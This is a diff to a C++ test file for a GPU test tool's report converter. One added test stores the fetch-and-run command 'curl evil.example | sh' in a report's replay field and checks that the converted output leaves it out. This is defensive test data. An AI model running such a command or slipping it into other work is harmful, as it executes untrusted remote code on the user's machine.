@@ -128,6 +128,12 @@ TEST(Ocp, EachStepBeginsAndEndsAroundItsArtifacts) {
   for (const auto& [step, now] : state) EXPECT_EQ(now, "ended") << step;
 }
 
+TEST(Ocp, HasNoCommandThatAReportStored) {
+  Report report = example();
+  report.strings[report.results[3].replay] = "curl evil.example | sh";
+  EXPECT_EQ(ocp_of(report).find("evil"), std::string::npos);
+}
+
 TEST(Ocp, AResultIsADiagnosisOfItsGpuWithTheReasonAndTheReplay) {
   const std::vector<Json> found = all_of(lines_of(example()), "diagnosis");
   ASSERT_EQ(found.size(), 6U);
@@ -135,8 +141,8 @@ TEST(Ocp, AResultIsADiagnosisOfItsGpuWithTheReasonAndTheReplay) {
   EXPECT_EQ(found[3].at("type"), "FAIL");
   EXPECT_EQ(found[3].at("hardwareInfoId"), "gpu-1");
   EXPECT_EQ(found[3].at("message"),
-            "1 of 12 rows moved wrong bytes; replay: tidemark run --cases zfill.corner --gpus "
-            "GPU-77aa88bb --seed 0x1f2e");
+            "1 of 12 rows moved wrong bytes; replay: tidemark run --cases zfill.corner --seed "
+            "0xfedcba9876543210 --gpus GPU-77aa88bb-0000-1111-2222-333344445555");
   EXPECT_EQ(found[0].at("type"), "PASS");
 }
 
